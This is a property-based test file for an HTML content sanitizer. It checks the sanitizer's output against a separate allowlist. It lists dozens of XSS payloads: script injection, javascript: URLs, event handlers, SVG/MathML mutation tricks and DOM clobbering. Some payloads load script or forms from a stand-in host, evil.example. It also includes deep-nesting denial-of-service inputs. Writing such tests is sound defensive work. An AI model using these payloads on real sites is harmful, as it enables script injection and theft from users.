/*
 * What an author, or somebody who got hold of an author's tools, might try. The oracle is a list of what may come out,
 * kept apart from the one that the sanitizer works with: a tag or a property that is on neither fails here.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ContentRefused } from '../../../src/server/import/content-refused.ts';
import { sanitizeContent } from '../../../src/server/import/sanitize-content.ts';
import type { Content } from '../../../src/shared/contract/content.ts';

const ALLOWED_TAGS = new Set(
  `p div pre blockquote hr ul ol li dl dt dd figure figcaption h1 h2 h3 h4 h5 h6 table caption thead tbody tfoot tr th td
  colgroup col b strong i em u s del ins sub sup small mark code kbd samp var q cite abbr dfn span br wbr bdi bdo ruby rt
  rp img audio video math mrow mi mn mo ms mtext mspace mstyle mpadded mphantom menclose mfrac msqrt mroot msub msup
  msubsup munder mover munderover mmultiscripts mprescripts none mtable mtr mtd semantics`.split(/\s+/),
);
const ALLOWED_PROPERTIES = new Set(
  `className dir lang src alt width height title start reversed type value scope colSpan rowSpan span display displaystyle
  mathvariant stretchy accent accentunder largeop movablelimits fence separator form notation columnalign linethickness
  lspace rspace depth`.split(/\s+/),
);
const CLASS =
  /^(align-(left|center|right|justify)|bold|italic|underline|overline|line-through|small-caps|(sub|super)script|width-(10|[2-9]0|100))$/;

function check(nodes: Content): void {
  for (const node of nodes) {
    if (node.type === 'text') continue;
    if (node.type !== 'element') throw new Error('there is no slot to fill');
    expect(ALLOWED_TAGS).toContain(node.tagName);
    for (const [name, value] of Object.entries(node.properties)) {
      expect(ALLOWED_PROPERTIES).toContain(name);
      if (name === 'src') expect(value).toMatch(/^[A-Za-z0-9_][A-Za-z0-9_./-]*$/);
      else if (name === 'className') for (const one of value as string[]) expect(one).toMatch(CLASS);
      else if (name !== 'alt' && name !== 'title') expect(String(value)).toMatch(/^[A-Za-z0-9.%+ -]*$/);
    }
    check(node.children);
  }
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="JaVaScRiPt:alert(1)">',
  '<img src="java\tscript:alert(1)">',
  '<img src="&#106;avascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src=x srcset="https://evil.example/1.png 2x" usemap="#m" longdesc="javascript:1" crossorigin>',
  '<img src=x:x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><iframe srcdoc="<script>1</script>"></iframe></annotation-xml></math>',
  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)" actiontype="statusline">x</mi></math>',
  '<math><maction actiontype="statusline#http://evil.example">x</maction></math>',
  '<math><mi><mglyph src="https://evil.example/x"/></mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>1</script>">',
  '<object data="javascript:alert(1)"><embed src="//evil.example"></object><applet code=x>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a><a href="//evil.example" ping="//evil.example" download>y</a>',
  '<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css";</style><p style="background:url(//evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;width:expression(alert(1))">x</p>',
  '<form action="//evil.example"><input name=password type=password autofocus onfocus=alert(1)><button formaction="javascript:1">x</button></form>',
  '<textarea autofocus onfocus=alert(1)></textarea><select autofocus onfocus=alert(1)></select><keygen autofocus onfocus=1>',
  '<video poster="javascript:1" onloadstart=alert(1) src=x autoplay loop><source onerror=alert(1) src="//evil.example/x"></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio><video><track src="//evil.example/x.vtt"></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>',
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><html onmouseover=1><frameset onload=1>',
  '<template><script>alert(1)</script><img src=x onerror=1></template><slot name=x></slot>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><script>alert(1)</script>',
  '<p id="app" name="cookie">x</p><img name="getElementById" id=x src=a.png><form id=document></form>',
  '<p is="x-y" slot=a part=b itemprop=c accesskey=x tabindex=1 contenteditable draggable=true>x</p>',
  '<p data-x="1" aria-hidden="true" role="alert" popover popovertarget=x inert hidden>x</p>',
  '<bdo dir="javascript:1">x</bdo><p lang="en"><script>">x</p><ol type="javascript:1" start="1e9"><li value="x">y</ol>',
  '<table background="javascript:1"><td background="//evil.example" colspan="99999999" headers="x">x</table>',
  '<x-element onclick=alert(1)>x</x-element><p xmlns:x="http://www.w3.org/1999/xhtml"><x:script>1</x:script></p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[<script>1</script>]]><?xml version="1.0"?><!DOCTYPE x>',
  '<p constructor=1 __proto__=2 prototype=3 toString=4 class="__proto__ constructor">x</p><__proto__>x</__proto__>',
  '<q cite="javascript:1">x</q><blockquote cite="javascript:1">x</blockquote><del cite="javascript:1" datetime=x>y</del>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<p>\ud800</p><img src="a\ud800.png" alt="\udfff">',
];

describe('nothing harmful comes out', () => {
  it.each(VECTORS)('%s', (html) => {
    const { content } = sanitizeContent(html);
    check(content);
    expect(JSON.stringify(content)).not.toMatch(/evil\.example/);
  });

  it('of whatever the vectors are cut into and put together to', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(...VECTORS.flatMap((vector) => vector.split(/(?=[<>"'= ])/))),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '/>',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&lt;',
        '\u0000',
        '<math>',
        '<svg>',
      ),
      fc.string({ maxLength: 8, unit: 'binary' }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        check(sanitizeContent(pieces.join('')).content);
      }),
      { numRuns: 2000 },
    );
  });

  it('of any attribute on any element', () => {
    const name = fc.constantFrom(...ALLOWED_TAGS, 'a', 'script', 'svg', 'iframe', 'input', 'object');
    const attribute = fc.constantFrom(
      ...['onclick', 'onload', 'style', 'href', 'src', 'xlink:href', 'id', 'name', 'class', 'srcdoc', 'width', 'value'],
      ...['type', 'start', 'lang', 'dir', 'title', 'form', 'formaction', 'data-x', 'action', 'background', 'notation'],
    );
    const value = fc.constantFrom(
      'javascript:alert(1)',
      '//evil.example/x',
      'bold',
      '1',
      'a.png',
      '"><script>',
      '100%',
    );
    fc.assert(
      fc.property(name, attribute, value, (tag, property, text) => {
        check(sanitizeContent(`<${tag} ${property}="${text.replaceAll('"', '&quot;')}">x</${tag}>`).content);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('HTML that costs more than it says', () => {
  it('is refused when it is nested too deeply, whatever nests it', () => {
    for (const tag of ['div', 'b', 'span', 'math', 'blockquote', 'ul><li', 'x-y']) {
      expect(() => sanitizeContent(`<${tag}>`.repeat(10_000))).toThrow(ContentRefused);
    }
  });

  it('is refused when a parser would open unclosed elements over and over', () => {
    const unclosed = Array.from({ length: 90 }, (_, n) => `<b class=${n}>`).join('');
    expect(() => sanitizeContent(`<p>${unclosed}${'<p>x'.repeat(40_000)}`)).toThrow(ContentRefused);
  });

  it('is read when it is only long', () => {
    const long = '<p>The <b>quick</b> <a href="#">brown</a> fox</p>'.repeat(4000);
    expect(sanitizeContent(long).content).toHaveLength(4000);
  });
});
